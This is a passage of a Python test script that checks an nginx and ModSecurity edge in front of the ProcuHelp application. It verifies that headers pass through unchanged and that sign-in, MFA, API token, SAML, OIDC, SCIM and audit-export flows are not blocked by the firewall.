#!/usr/bin/env python3
"""The edge's test driver: attack payloads are blocked, every ProcuHelp flow passes.

Run by scripts/edge-test.sh, which starts procuhelp-server (seeded with `seed-demo`,
`--trusted-proxy 127.0.0.1/32`) and nginx + ModSecurity + CRS in front of it, all on
loopback, and passes everything this script needs on its command line. Standard
library only. Every request carries an `x-edge-test` header naming its check, so the
ModSecurity audit log (JSON, one transaction a line) can be searched for the rules that
matched it.

  blocked   every attack payload answers 403 with `x-procuhelp-edge: blocked` (the WAF,
            not the application), and the rules that matched are printed
  passes    every legitimate flow reaches procuhelp-server (no edge marker) and gets the
            application's own answer: the expected success status where the embedded
            default can make the flow succeed, the application's refusal otherwise
  headers   the server's hardened headers arrive through the edge unchanged
  client    the server sees the edge's client address (X-Forwarded-For, believed only
            from the trusted proxy), never an address the client made up

Exits 1 on any failure, naming the payload or flow and the audit-log rule ids for it.
"""

import argparse
import base64
import hashlib
import hmac
import http.client
import json
import os
import re
import secrets
import socket
import ssl
import struct
import subprocess
import sys
import time
import urllib.parse
import uuid
import warnings

# TLS 1.0/1.1 are named on purpose (the edge must refuse them).
warnings.filterwarnings("ignore", category=DeprecationWarning)

FAILURES = []
REPORT = []  # (kind, name, status, detail)
PASSED = []  # (index in REPORT, request label) of passing flows, for late_matches()
ARGS = None
SEQ = [0]


def fail(what):
    FAILURES.append(what)
    print(f"FAIL: {what}", file=sys.stderr, flush=True)


# ---- transport ------------------------------------------------------------------------
def tls_context(ca_file):
    ctx = ssl.create_default_context(cafile=ca_file)
    ctx.minimum_version = ssl.TLSVersion.TLSv1_2
    return ctx


class Conn(http.client.HTTPSConnection):
    """HTTPS to ADDR:PORT with SNI and Host set to NAME, from an optional source address."""

    def __init__(self, addr, port, name, ctx, source=None, timeout=30):
        super().__init__(
            name,
            port,
            context=ctx,
            timeout=timeout,
            source_address=(source, 0) if source else None,
        )
        self._addr = addr

    def connect(self):
        sock = socket.create_connection(
            (self._addr, self.port), self.timeout, self.source_address
        )
        self.sock = self._context.wrap_socket(sock, server_hostname=self.host)


class Reply:
    def __init__(self, status, headers, body, label):
        self.status = status
        self.headers = headers  # list of (name, value), names lower-cased
        self.body = body
        self.label = label

    def header(self, name):
        for k, v in self.headers:
            if k == name:
                return v
        return None

    def all(self, name):
        return [v for k, v in self.headers if k == name]

    @property
    def edge(self):
        return self.header("x-procuhelp-edge")

    def json(self):
        try:
            return json.loads(self.body)
        except ValueError:
            return None

    def text(self, n=300):
        return self.body[:n].decode("utf-8", "replace")


def label_for(name):
    SEQ[0] += 1
    return f"{SEQ[0]:03d}-" + re.sub(r"[^A-Za-z0-9._-]+", "-", name)[:60]


def request(
    name,
    method,
    path,
    body=None,
    headers=None,
    direct=False,
    source=None,
    content_type=None,
):
    """One request on a new connection, to the edge (or, direct=True, to the server)."""
    label = label_for(name)
    h = {"user-agent": "procuhelp-edge-test/1.0", "accept": "*/*", "x-edge-test": label}
    if isinstance(body, (dict, list)):
        body = json.dumps(body).encode()
        h["content-type"] = content_type or "application/json"
    elif isinstance(body, str):
        body = body.encode()
    if content_type:
        h["content-type"] = content_type
    for k, v in (headers or {}).items():
        if v is None:
            h.pop(k.lower(), None)
        else:
            h[k.lower()] = v
    if direct:
        conn = Conn("127.0.0.1", ARGS.server_port, ARGS.server_name, ARGS.server_ctx, source)
    else:
        conn = Conn("127.0.0.1", ARGS.edge_port, ARGS.edge_name, ARGS.edge_ctx, source)
    try:
        conn.request(method, path, body=body, headers=h)
        resp = conn.getresponse()
        data = resp.read()
        return Reply(resp.status, [(k.lower(), v) for k, v in resp.getheaders()], data, label)
    finally:
        conn.close()


def raw(name, build):
    """A hand-made request over TLS to the edge: build(label) returns the bytes to send.
    Reads until the edge closes (the requests say Connection: close)."""
    label = label_for(name)
    data = build(label)
    sock = socket.create_connection(("127.0.0.1", ARGS.edge_port), 15)
    tls = ARGS.edge_ctx.wrap_socket(sock, server_hostname=ARGS.edge_name)
    try:
        tls.sendall(data)
        chunks = []
        tls.settimeout(15)
        while True:
            try:
                chunk = tls.recv(65536)
            except (ssl.SSLError, ConnectionResetError, socket.timeout):
                break
            if not chunk:
                break
            chunks.append(chunk)
            if b"\r\n\r\n" in b"".join(chunks) and len(b"".join(chunks)) > 8192:
                break
    finally:
        tls.close()
    resp = b"".join(chunks)
    head, _, body = resp.partition(b"\r\n\r\n")
    lines = head.decode("latin-1").split("\r\n")
    m = re.match(r"HTTP/\d\.\d (\d{3})", lines[0] if lines else "")
    status = int(m.group(1)) if m else 0
    headers = []
    for line in lines[1:]:
        k, _, v = line.partition(":")
        headers.append((k.strip().lower(), v.strip()))
    return Reply(status, headers, body, label)


# ---- ModSecurity's audit log ------------------------------------------------------------
def audit_entries(label, wait=2.0):
    """The audit-log transactions of the request labelled LABEL (written after the
    response, so wait a little for it)."""
    deadline = time.time() + wait
    while True:
        found = []
        needle = f'"x-edge-test":"{label}"'
        try:
            with open(ARGS.audit_log, encoding="utf-8", errors="replace") as f:
                for line in f:
                    if needle not in line:
                        continue
                    try:
                        found.append(json.loads(line)["transaction"])
                    except (ValueError, KeyError):
                        continue
        except FileNotFoundError:
            pass
        if found or time.time() >= deadline:
            return found
        time.sleep(0.1)


def matched_rules(label, wait=2.0):
    """[(rule id, message)] of the rules that matched the request labelled LABEL."""
    out = []
    for t in audit_entries(label, wait):
        for m in t.get("messages", []):
            d = m.get("details", {})
            out.append((d.get("ruleId", "?"), m.get("message", "")))
    return out


def rule_ids(label, wait=2.0):
    return sorted({r for r, _ in matched_rules(label, wait)})


def error_log_lines(reply):
    rid = reply.header("x-procuhelp-edge-request-id")
    if not rid:
        return []
    try:
        with open(ARGS.error_log, encoding="utf-8", errors="replace") as f:
            return [l.rstrip() for l in f if rid in l]
    except FileNotFoundError:
        return []


# ---- checks -----------------------------------------------------------------------------
SCORING = {"949110", "980130", "959100", "980140"}


def expect_blocked(name, reply, allow_rejected=False):
    """The edge answered, not the app: 403 + x-procuhelp-edge: blocked (or, with
    allow_rejected, nginx's own 400 + rejected for requests it cannot even parse)."""
    ids = rule_ids(reply.label, wait=1.5)
    attack_ids = [i for i in ids if i not in SCORING]
    # A WAF block: the edge's 403 and marker, and the audit log names the rules.
    ok = reply.status == 403 and reply.edge == "blocked" and bool(ids)
    how = "blocked"
    if not ok and allow_rejected and reply.edge == "rejected" and reply.status in (400, 413):
        ok, how = True, "rejected by nginx"
    detail = f"{how}; rules {','.join(attack_ids) or '-'}" if ok else ""
    if not ok:
        fail(
            f"attack NOT blocked by the edge: {name}: status {reply.status}, "
            f"x-procuhelp-edge={reply.edge!r}, rules matched {ids or 'none'}; body {reply.text(200)!r}"
        )
        for line in error_log_lines(reply):
            print(f"    error.log: {line}", file=sys.stderr)
    REPORT.append(("attack", name, reply.status, detail or "NOT BLOCKED"))
    return ok


def expect_passed(name, reply, statuses, check=None):
    """The request reached procuhelp-server (no edge marker) and got one of STATUSES."""
    # A passing request is not waited for here (its audit-log line may come a moment
    # later): late_matches() looks at all of them once at the end.
    ids = rule_ids(reply.label, wait=0 if reply.edge is None else 1.5)
    problems = []
    if reply.edge is not None:
        problems.append(f"answered by the edge (x-procuhelp-edge: {reply.edge})")
    if reply.header("x-procuhelp-edge-request-id"):
        problems.append("carries the edge's request id header")
    if reply.status not in statuses:
        problems.append(f"status {reply.status}, expected {statuses}")
    if check and not problems:
        why = check(reply)
        if why:
            problems.append(why)
    matched = [i for i in ids if i not in SCORING]
    if problems:
        fail(
            f"legitimate flow failed: {name}: {'; '.join(problems)}; "
            f"rules matched: {matched_rules(reply.label, 0) or 'none'}; body {reply.text(300)!r}"
        )
        for line in error_log_lines(reply):
            print(f"    error.log: {line}", file=sys.stderr)
    note = f"app {reply.status}"
    if matched:
        # Below the threshold, so passed; shown so a reviewer sees what came close.
        note += f"; rules matched below the threshold: {','.join(matched)}"
    REPORT.append(("flow", name, reply.status, note if not problems else "FAILED"))
    if not problems and not matched:
        PASSED.append((len(REPORT) - 1, reply.label))
    return not problems


def late_matches():
    """Rules that matched a passing request below the threshold, found once every audit
    line has been written: added to the report (a reviewer sees what came close)."""
    time.sleep(0.5)
    by_label = {}
    try:
        with open(ARGS.audit_log, encoding="utf-8", errors="replace") as f:
            for line in f:
                m = re.search(r'"x-edge-test":"([^"]+)"', line)
                if not m:
                    continue
                try:
                    t = json.loads(line)["transaction"]
                except (ValueError, KeyError):
                    continue
                ids = {mm.get("details", {}).get("ruleId") for mm in t.get("messages", [])}
                by_label.setdefault(m.group(1), set()).update(i for i in ids if i and i not in SCORING)
    except FileNotFoundError:
        return
    for index, label in PASSED:
        ids = sorted(by_label.get(label, ()))
        if ids:
            kind, name, status, note = REPORT[index]
            REPORT[index] = (kind, name, status, f"{note}; rules matched below the threshold: {','.join(ids)}")


# ---- helpers for the flows ----------------------------------------------------------------
def totp(secret_b32, step):
    key = base64.b32decode(secret_b32.upper() + "=" * (-len(secret_b32) % 8))
    mac = hmac.new(key, struct.pack(">Q", step), hashlib.sha1).digest()
    o = mac[-1] & 0x0F
    return f"{(struct.unpack('>I', mac[o:o + 4])[0] & 0x7FFFFFFF) % 1_000_000:06d}"


class Session:
    def __init__(self, cookie, csrf):
        self.cookie = cookie
        self.csrf = csrf

    def headers(self):
        return {"cookie": self.cookie, "x-csrf-token": self.csrf}


def session_from(reply):
    for c in reply.all("set-cookie"):
        if c.startswith("__Host-procuhelp-session="):
            body = reply.json() or {}
            return Session(c.split(";")[0], body.get("csrf_token", ""))
    return None


def read_demo(path):
    orgs, users = [], {}
    for line in open(path, encoding="utf-8"):
        m = re.match(r"organisation (\S+)", line)
        if m:
            orgs.append(m.group(1))
            continue
        m = re.match(r"\s+(\S+)\s+org=(\S+) email=(\S+) password=(\S+)", line)
        if m:
            users[(m.group(2), m.group(1))] = (m.group(3), m.group(4))
    return orgs, users


def b64(n):
    return base64.b64encode(secrets.token_bytes(n)).decode()


def b64url(n):
    return base64.urlsafe_b64encode(secrets.token_bytes(n)).decode().rstrip("=")


# What CRS rule 921110 (request smuggling) sees in a line-wrapped base64 value: a line
# that ends in an HTTP method, then the next line.
SMUGGLING_LOOKALIKE = re.compile(
    r"(?:get|post|head|options|connect|put|delete|trace|track|patch|propfind|propatch|mkcol|copy|move|lock|unlock)"
    r"\r\n[a-z0-9_/]"
)


def saml_response(org, size_target, wrapped=False):
    """With WRAPPED, the base64 is wrapped at 76 columns with CRLF as some IdPs send it,
    and regenerated until some line ends in an HTTP method name (about 2 in 5 responses
    of 64 KiB do): the case that must pass, every run."""
    for _ in range(200):
        encoded, irt = _saml_response(org, size_target)
        if not wrapped:
            return encoded, irt
        encoded = "\r\n".join(encoded[i:i + 76] for i in range(0, len(encoded), 76))
        if SMUGGLING_LOOKALIKE.search(encoded.lower()):
            return encoded, irt
    raise RuntimeError("no wrapped SAML response with a method-like line end in 200 tries")


def _saml_response(org, size_target):
    """An Entra-shaped SAML 2.0 Response (signed assertion, group claims), base64 as the
    HTTP-POST binding sends it. Groups are added until the encoded form reaches
    SIZE_TARGET bytes: Entra caps group claims at 150 in a token, ADFS and Okta send every
    group, which is how real ACS posts reach 100 KiB."""
    now = time.strftime("%Y-%m-%dT%H:%M:%S.000Z", time.gmtime())
    later = time.strftime("%Y-%m-%dT%H:%M:%S.000Z", time.gmtime(time.time() + 3600))
    tenant = str(uuid.uuid4())
    acs = f"https://{ARGS.edge_name}/sso/{org}/saml/acs"
    rid, aid = "_" + str(uuid.uuid4()), "_" + str(uuid.uuid4())
    in_response_to = "id" + secrets.token_hex(16)
    idp = f"https://sts.windows.net/{tenant}/"

    def signature(ref):
        return (
            '<Signature xmlns="http://www.w3.org/2000/09/xmldsig#"><SignedInfo>'
            '<CanonicalizationMethod Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/>'
            '<SignatureMethod Algorithm="http://www.w3.org/2001/04/xmldsig-more#rsa-sha256"/>'
            f'<Reference URI="#{ref}"><Transforms>'
            '<Transform Algorithm="http://www.w3.org/2000/09/xmldsig#enveloped-signature"/>'
            '<Transform Algorithm="http://www.w3.org/2001/10/xml-exc-c14n#"/></Transforms>'
            '<DigestMethod Algorithm="http://www.w3.org/2001/04/xmlenc#sha256"/>'
            f"<DigestValue>{b64(32)}</DigestValue></Reference></SignedInfo>"
            f"<SignatureValue>{b64(256)}</SignatureValue>"
            f"<KeyInfo><X509Data><X509Certificate>{b64(750)}</X509Certificate></X509Data></KeyInfo>"
            "</Signature>"
        )

    def attr(name, values):
        vals = "".join(f"<AttributeValue>{v}</AttributeValue>" for v in values)
        return f'<Attribute Name="{name}">{vals}</Attribute>'

    claims = "http://schemas.xmlsoap.org/ws/2005/05/identity/claims"
    ms = "http://schemas.microsoft.com"
    fixed = [
        attr(f"{ms}/identity/claims/tenantid", [tenant]),
        attr(f"{ms}/identity/claims/objectidentifier", [str(uuid.uuid4())]),
        attr(f"{ms}/identity/claims/displayname", ["Alice O&apos;Neil"]),
        attr(f"{ms}/identity/claims/identityprovider", [idp]),
        attr(
            f"{ms}/claims/authnmethodsreferences",
            [
                f"{ms}/ws/2008/06/identity/authenticationmethod/password",
                f"{ms}/claims/multipleauthn",
            ],
        ),
        attr(f"{claims}/givenname", ["Alice"]),
        attr(f"{claims}/surname", ["O&apos;Neil"]),
        attr(f"{claims}/emailaddress", ["alice.oneil@contoso.com"]),
        attr(f"{claims}/name", ["alice.oneil@contoso.com"]),
    ]

    def build(groups):
        assertion = (
            f'<Assertion ID="{aid}" IssueInstant="{now}" Version="2.0" '
            'xmlns="urn:oasis:names:tc:SAML:2.0:assertion">'
            f"<Issuer>{idp}</Issuer>{signature(aid)}"
            '<Subject><NameID Format="urn:oasis:names:tc:SAML:1.1:nameid-format:emailAddress">'
            "alice.oneil@contoso.com</NameID>"
            '<SubjectConfirmation Method="urn:oasis:names:tc:SAML:2.0:cm:bearer">'
            f'<SubjectConfirmationData InResponseTo="{in_response_to}" NotOnOrAfter="{later}" '
            f'Recipient="{acs}"/></SubjectConfirmation></Subject>'
            f'<Conditions NotBefore="{now}" NotOnOrAfter="{later}"><AudienceRestriction>'
            f"<Audience>https://{ARGS.edge_name}/sso/{org}/saml/metadata</Audience>"
            "</AudienceRestriction></Conditions><AttributeStatement>"
            + "".join(fixed)
            + attr(f"{ms}/ws/2008/06/identity/claims/groups", groups)
            + "</AttributeStatement>"
            f'<AuthnStatement AuthnInstant="{now}" SessionIndex="{aid}"><AuthnContext>'
            "<AuthnContextClassRef>urn:oasis:names:tc:SAML:2.0:ac:classes:"
            "PasswordProtectedTransport</AuthnContextClassRef></AuthnContext>"
            "</AuthnStatement></Assertion>"
        )
        xml = (
            '<samlp:Response ID="{rid}" Version="2.0" IssueInstant="{now}" '
            'Destination="{acs}" InResponseTo="{irt}" '
            'xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol">'
            '<Issuer xmlns="urn:oasis:names:tc:SAML:2.0:assertion">{idp}</Issuer>'
            '{sig}<samlp:Status><samlp:StatusCode Value="urn:oasis:names:tc:SAML:2.0:status:Success"/>'
            "</samlp:Status>{assertion}</samlp:Response>"
        ).format(rid=rid, now=now, acs=acs, irt=in_response_to, idp=idp, sig=signature(rid), assertion=assertion)
        return xml

    groups = []
    while True:
        xml = build(groups)
        encoded = base64.b64encode(('<?xml version="1.0" encoding="UTF-8"?>' + xml).encode()).decode()
        if len(encoded) >= size_target:
            return encoded, in_response_to
        groups.extend(str(uuid.uuid4()) for _ in range(50))


# What a browser sends when Entra's page hands it back (form POST or redirect).
BROWSER_FROM_ENTRA = {
    "user-agent": "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 Edg/131.0.0.0",
    "accept": "text/html,application/xhtml+xml,application/xml;q=0.9,image/avif,image/webp,*/*;q=0.8",
    "accept-language": "de-DE,de;q=0.9,en;q=0.8",
    "origin": "https://login.microsoftonline.com",
    "referer": "https://login.microsoftonline.com/",
    "sec-fetch-site": "cross-site",
    "sec-fetch-mode": "navigate",
    "sec-fetch-dest": "document",
    "upgrade-insecure-requests": "1",
}


# ---- the checks ---------------------------------------------------------------------------
HARDENED = [
    "strict-transport-security",
    "content-security-policy",
    "x-content-type-options",
    "x-frame-options",
    "referrer-policy",
    "permissions-policy",
    "cross-origin-opener-policy",
    "cross-origin-resource-policy",
    "x-permitted-cross-domain-policies",
    "cache-control",
]
# Set per connection or per response by whoever answers, not by the application.
HOP = {"date", "server", "connection", "keep-alive", "transfer-encoding", "content-length", "x-edge-test"}


def normalise(name, value):
    if name == "content-security-policy":
        value = re.sub(r"'nonce-[^']+'", "'nonce-*'", value)
    if name == "x-request-id":  # the server's own id, new for every request
        value = "*"
    if name == "set-cookie":
        value = re.sub(r"^([^=]+)=[^;]*", r"\1=*", value)
    return value


def header_set(reply):
    return sorted((k, normalise(k, v)) for k, v in reply.headers if k not in HOP)


def check_headers():
    for name, method, path, body in [
        ("home page", "GET", "/", None),
        ("healthz", "GET", "/healthz", None),
        ("API error (404)", "GET", "/api/nothing-here", None),
        ("sign-in refused (401)", "POST", "/api/login", {"org": ARGS.orgs[0], "email": "nobody@a.demo.procuhelp.test", "password": "wrong password 1"}),
    ]:
        d = request(f"headers direct: {name}", method, path, body, direct=True)
        e = request(f"headers edge: {name}", method, path, body)
        expect_passed(f"headers: {name}", e, {d.status})
        missing = [h for h in HARDENED if d.header(h) is not None and e.header(h) is None]
        if missing:
            fail(f"hardened headers lost at the edge for {name}: {missing}")
        ds, es = header_set(d), header_set(e)
        if ds != es:
            fail(
                f"headers differ through the edge for {name}:\n  direct only: "
                f"{sorted(set(ds) - set(es))}\n  edge only:   {sorted(set(es) - set(ds))}"
            )
        present = [h for h in HARDENED if e.header(h) is not None]
        srv = e.header("server")
        if srv and re.search(r"\d", srv):
            fail(f"the edge announces a version: Server: {srv}")
        REPORT.append(("headers", name, e.status, f"identical to direct ({len(present)} hardened: {', '.join(present)})" if ds == es else "DIFFERENT"))


def audit_export(sess_or_token, name, fmt=""):
    h = sess_or_token.headers() if isinstance(sess_or_token, Session) else {"authorization": f"Bearer {sess_or_token}"}
    return request(name, "GET", "/api/audit/export" + fmt, headers=h)


def flows():
    org_a, org_b = ARGS.orgs[0], ARGS.orgs[1]
    email, password = ARGS.users[(org_a, "admin")]

    # ---- password sign-in --------------------------------------------------------------
    r = request("sign-in (password)", "POST", "/api/login", {"org": org_a, "email": email, "password": password})
    expect_passed("password sign-in (POST /api/login)", r, {200}, lambda r: None if session_from(r) else "no session cookie")
    s = session_from(r)
    if not s:
        return
    r = request("whoami", "GET", "/api/session", headers=s.headers())
    expect_passed("session read (GET /api/session)", r, {200})
    # A second sign-in elsewhere, then signing that session out from this one (DELETE).
    r = request("sign-in (second device)", "POST", "/api/login", {"org": org_a, "email": email, "password": password})
    expect_passed("password sign-in (second session)", r, {200})
    r = request("list sessions", "GET", "/api/sessions", headers=s.headers())
    expect_passed("session list (GET /api/sessions)", r, {200})
    body = r.json() or {}
    others = [x.get("id") for x in body.get("sessions", []) if isinstance(x, dict) and x.get("id") != body.get("current")]
    if others:
        r = request("revoke session", "DELETE", f"/api/sessions/{others[0]}", headers=s.headers())
        expect_passed("session revoke (DELETE /api/sessions/{id})", r, {200})
    else:
        fail(f"no second session listed: {r.text()}")

    # Realistic business data: names with apostrophes, ampersands, accents, quotes.
    for i, name in enumerate([
        "O'Reilly Media GmbH & Co. KG",
        "Müller-Lüdenscheid AG (Zweigniederlassung \"Süd\")",
        "Select Office Supplies Ltd",
        "Union Catering & Events SARL",
        "D'Angelo & Figli S.p.A. -- Milano",
    ]):
        r = request(f"create supplier {i}", "POST", "/api/suppliers", {"name": name, "country": "DE"}, headers=s.headers())
        expect_passed(f"API write with real-world text (supplier {name!r})", r, {200, 201})

    # ---- TOTP: enrol, confirm, sign in again with the second factor ---------------------
    r = request("mfa enrol", "POST", "/api/mfa/enrol", headers=s.headers())
    ok = expect_passed("TOTP enrolment (POST /api/mfa/enrol)", r, {200})
    secret = None
    if ok:
        uri = (r.json() or {}).get("otpauth_uri", "")
        q = urllib.parse.parse_qs(urllib.parse.urlsplit(uri).query)
        secret = (q.get("secret") or [None])[0]
    if secret:
        step = int(time.time()) // 30
        r = request("mfa confirm", "POST", "/api/mfa/confirm", {"code": totp(secret, step)}, headers=s.headers())
        expect_passed("TOTP confirmation (POST /api/mfa/confirm)", r, {200})
        s = session_from(r) or s
        r = request("logout", "POST", "/api/logout", headers=s.headers())
        expect_passed("sign-out (POST /api/logout)", r, {200})
        r = request("sign-in (password, mfa user)", "POST", "/api/login", {"org": org_a, "email": email, "password": password})
        expect_passed("password sign-in of an MFA user", r, {200}, lambda r: None if (r.json() or {}).get("stage") == "second_factor" else f"stage {(r.json() or {}).get('stage')}")
        s2 = session_from(r)
        if s2:
            # The next time step: the one used to confirm is never accepted twice; the
            # server allows one step of skew.
            r = request("sign-in (totp)", "POST", "/api/login/mfa", {"code": totp(secret, step + 1)}, headers=s2.headers())
            expect_passed("TOTP sign-in step (POST /api/login/mfa)", r, {200}, lambda r: None if (r.json() or {}).get("stage") == "full" else f"stage {(r.json() or {}).get('stage')}")
            s = session_from(r) or s
    else:
        fail("TOTP: no secret in the enrolment answer")

    # ---- API tokens ---------------------------------------------------------------------
    r = request("create api token", "POST", "/api/tokens", {"name": "erp-sync", "role": "admin", "days": 1}, headers=s.headers())
    expect_passed("API token creation (POST /api/tokens)", r, {200})
    token = (r.json() or {}).get("token")
    if token:
        bearer = {"authorization": f"Bearer {token}"}
        r = request("token: list suppliers", "GET", "/api/suppliers", headers=bearer)
        expect_passed("API token use: read (GET /api/suppliers, Bearer)", r, {200})
        r = request("token: create supplier", "POST", "/api/suppliers", {"name": "Token-made Supplies B.V.", "country": "NL"}, headers=bearer)
        expect_passed("API token use: write (POST /api/suppliers, Bearer)", r, {200, 201})
        r = request("token: session", "GET", "/api/session", headers=bearer)
        expect_passed("API token use: whoami (GET /api/session, Bearer)", r, {200})
    else:
        fail("API token: none issued")

    # ---- SAML: the admin configures Entra, Entra's browser form POSTs to the ACS ---------
    tenant = str(uuid.uuid4())
    with open(ARGS.edge_ca, encoding="ascii") as f:
        idp_cert = f.read()  # any certificate will do: the response is not signed by it
    r = request("saml configure", "PUT", "/api/sso/saml", {
        "connection": {
            "idp_entity_id": f"https://sts.windows.net/{tenant}/",
            "idp_sso_url": f"https://login.microsoftonline.com/{tenant}/saml2",
            "idp_certificates": [idp_cert],
            "sp_entity_id": f"https://{ARGS.edge_name}/sso/{org_a}/saml/metadata",
            "acs_url": f"https://{ARGS.edge_name}/sso/{org_a}/saml/acs",
            "mfa_authn_contexts": ["http://schemas.microsoft.com/claims/multipleauthn"],
        },
        "group_roles": {str(uuid.uuid4()): "admin", str(uuid.uuid4()): "approver"},
    }, headers=s.headers())
    expect_passed("SAML configuration with the IdP's PEM certificate (PUT /api/sso/saml)", r, {200})
    for label, size, wrap in [
        ("Entra, one base64 line", 96 * 1024, False),
        ("base64 wrapped at 76 columns, a line ending in an HTTP method", 64 * 1024, True),
    ]:
        encoded, irt = saml_response(org_a, size, wrapped=wrap)
        form = urllib.parse.urlencode({"SAMLResponse": encoded, "RelayState": irt})
        r = request(f"saml acs {label}", "POST", f"/sso/{org_a}/saml/acs", form,
                    content_type="application/x-www-form-urlencoded", headers=BROWSER_FROM_ENTRA)
        # The response is not signed by the configured certificate, and this browser
        # holds no binding cookie: procuhelp-server refuses it (its own 4xx page).
        expect_passed(f"SAML POST to the ACS ({label}, {len(form) // 1024} KiB form)", r, {400, 401, 403, 404, 409, 422})
    r = request("saml metadata", "GET", f"/sso/{org_a}/saml/metadata")
    expect_passed("SAML SP metadata (GET /sso/{org}/saml/metadata)", r, {200})

    # ---- OIDC callback as Entra sends it ---------------------------------------------------
    code = "0.A" + b64url(24) + "." + b64url(900) + "." + b64url(24)
    state = b64url(32)
    qs = urllib.parse.urlencode({"code": code, "state": state, "session_state": str(uuid.uuid4())})
    r = request("oidc callback", "GET", f"/sso/{org_a}/oidc/callback?{qs}", headers=BROWSER_FROM_ENTRA)
    expect_passed(f"OIDC callback (code {len(code)} chars, state, session_state)", r, {400, 401, 403, 404, 409})
    err = (
        "AADSTS50105: Your administrator has configured the application ProcuHelp "
        f"('{uuid.uuid4()}') to block users unless they are specifically granted ('assigned') "
        "access to the application.\r\nTrace ID: " + str(uuid.uuid4()) + "\r\nCorrelation ID: "
        + str(uuid.uuid4()) + "\r\nTimestamp: " + time.strftime("%Y-%m-%d %H:%M:%SZ", time.gmtime())
    )
    qs = urllib.parse.urlencode({"error": "access_denied", "error_description": err, "state": state})
    r = request("oidc callback error", "GET", f"/sso/{org_a}/oidc/callback?{qs}", headers=BROWSER_FROM_ENTRA)
    expect_passed("OIDC callback with Entra's error (AADSTS50105 description)", r, {400, 401, 403, 404, 409})
    r = request("oidc start", "GET", f"/sso/{org_a}/oidc/start")
    expect_passed("OIDC start (GET /sso/{org}/oidc/start)", r, {302, 303, 400, 404, 409})

    # ---- SCIM as Entra ID provisions ----------------------------------------------------
    r = request("scim token", "POST", "/api/scim/tokens", {"name": "Entra ID", "days": 1}, headers=s.headers())
    expect_passed("SCIM token issue (POST /api/scim/tokens)", r, {200, 201})
    scim_token = (r.json() or {}).get("token")
    r = request("scim settings", "PUT", "/api/scim/settings",
                {"role_mappings": [{"group": "Procurement Approvers", "role": "approver"}], "sso_jit_provisioning": False},
                headers=s.headers())
    expect_passed("SCIM group-to-role mapping (PUT /api/scim/settings)", r, {200})
    if scim_token:
        scim_flows(org_a, scim_token)
    else:
        fail("SCIM: no token issued")

    # ---- audit export -----------------------------------------------------------------------
    # Make the export large: events from the flows above plus a batch of writes.
    if token:
        for i in range(ARGS.bulk_events):
            r = request(f"bulk supplier {i}", "POST", "/api/suppliers", {"name": f"Bulk Supplier {i:04d} — Großhandel & Logistik", "country": "AT"}, headers={"authorization": f"Bearer {token}"})
            if r.edge is not None or r.status not in (200, 201):
                expect_passed(f"bulk supplier {i}", r, {200, 201})
                break
    direct = audit_export(s, "audit export direct")
    r = audit_export(s, "audit export (jsonl)")

    def export_ok(r):
        lines = r.body.split(b"\n")
        if lines and lines[-1] == b"":
            lines.pop()
        try:
            for line in lines:
                json.loads(line)
        except ValueError as e:
            return f"a line does not parse: {e}"
        # Far beyond nginx's in-memory proxy buffers: the edge spools it to proxy_temp_path.
        if len(r.body) < 200 * 1024:
            return f"export only {len(r.body)} bytes: expected > 200 KiB to exercise the edge"
        # Byte for byte the events the direct export holds, in order: the edge's export is
        # one export event longer (the header and checkpoints may differ).
        def events(body):
            return [l for l in body.split(b"\n") if l and not l.startswith((b'{"format"', b'{"checkpoint"'))]
        e, d = events(r.body), events(direct.body)
        if len(d) < 100 or e[: len(d)] != d:
            return f"the events through the edge differ from the direct export ({len(e)} vs {len(d)} events)"
        return None

    expect_passed(f"audit export (GET /api/audit/export, {len(r.body) // 1024} KiB JSON lines)", r, {200}, export_ok)
    if r.status == 200 and ARGS.server_bin:
        path = os.path.join(ARGS.work, "edge-export.jsonl")
        with open(path, "wb") as f:
            f.write(r.body)
        v = subprocess.run(
            [ARGS.server_bin, "audit", "verify", "--file", path, "--dangerously-trust-embedded-keys"],
            capture_output=True, text=True, timeout=60,
        )
        if v.returncode != 0:
            fail(f"the audit export fetched through the edge does not verify: {v.stdout}{v.stderr}")
        else:
            REPORT.append(("flow", "audit export through the edge verifies (audit verify --file)", 0, "chain intact"))
    r = audit_export(s, "audit export (csv)", "?format=csv")
    expect_passed("audit export (GET /api/audit/export?format=csv)", r, {200})
    if token:
        r = audit_export(token, "audit export (bearer)")
        expect_passed("audit export with an API token", r, {200})
    r = request("audit page", "GET", "/audit?action=auth.login_succeeded", headers=s.headers())
    expect_passed("audit page (GET /audit?action=...)", r, {200})

    ARGS.admin_session = s


SCIM_TYPE = "application/scim+json"
USER = "urn:ietf:params:scim:schemas:core:2.0:User"
ENTERPRISE = "urn:ietf:params:scim:schemas:extension:enterprise:2.0:User"
GROUP = "urn:ietf:params:scim:schemas:core:2.0:Group"
PATCHOP = "urn:ietf:params:scim:api:messages:2.0:PatchOp"


def scim_flows(org, token):
    base = f"/scim/v2/{org}"
    auth = {"authorization": f"Bearer {token}"}

    def scim(name, method, path, body=None, statuses=(200,), check=None):
        r = request(name, method, base + path, body, headers=auth, content_type=SCIM_TYPE if body is not None else None)
        expect_passed(name, r, set(statuses), check)
        return r

    scim("SCIM discovery (GET /ServiceProviderConfig)", "GET", "/ServiceProviderConfig")
    scim("SCIM discovery (GET /Schemas)", "GET", "/Schemas")
    who = "alice.oneil@contoso.com"
    # Entra's first look-up of a user and of a group.
    q = urllib.parse.quote(f'userName eq "{who}"', safe="")
    scim("SCIM Entra user look-up (filter userName eq \"...\")", "GET", f"/Users?filter={q}")
    q = urllib.parse.quote('displayName eq "Procurement Approvers"', safe="")
    scim("SCIM Entra group look-up (excludedAttributes=members)", "GET", f"/Groups?excludedAttributes=members&filter={q}")
    # Entra's create body.
    ext = str(uuid.uuid4())
    r = scim(
        "SCIM Entra user create (POST /Users)",
        "POST",
        "/Users",
        {
            "schemas": [USER, ENTERPRISE],
            "externalId": ext,
            "userName": who,
            "active": True,
            "displayName": "Alice O'Neil",
            "emails": [{"primary": True, "type": "work", "value": who}],
            "meta": {"resourceType": "User"},
            "name": {"formatted": "Alice O'Neil", "familyName": "O'Neil", "givenName": "Alice"},
        },
        statuses=(201,),
    )
    uid = (r.json() or {}).get("id")
    r = scim(
        "SCIM Entra user create (second user)",
        "POST",
        "/Users",
        {
            "schemas": [USER, ENTERPRISE],
            "externalId": str(uuid.uuid4()),
            "userName": "bob.select@contoso.com",
            "active": True,
            "displayName": "Bob Select",
